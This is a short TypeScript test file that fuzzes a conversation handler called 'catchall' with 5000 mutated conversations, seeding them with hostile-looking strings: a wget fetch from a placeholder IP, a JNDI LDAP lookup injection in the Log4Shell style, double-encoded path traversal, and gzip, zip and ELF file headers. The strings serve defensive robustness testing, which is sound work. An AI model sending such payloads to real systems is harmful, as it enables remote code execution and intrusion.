import { test } from 'node:test'
import { fuzzConversations } from '#services/testing/fuzz.ts'
import catchall from './index.ts'

test('mutated conversations end in a named way', { timeout: 600_000 }, () =>
  fuzzConversations(catchall, {
    folder: import.meta.dirname,
    words: [
      'wget http://192.0.2.1/x',
      '$\x7bjndi:ldap://192.0.2.1/a}',
      '\x1f\x8b\x08',
      'UEsDBA==',
      '%252e%252e',
      '\x7fELF',
    ],
    conversations: 5000,
  }),
)
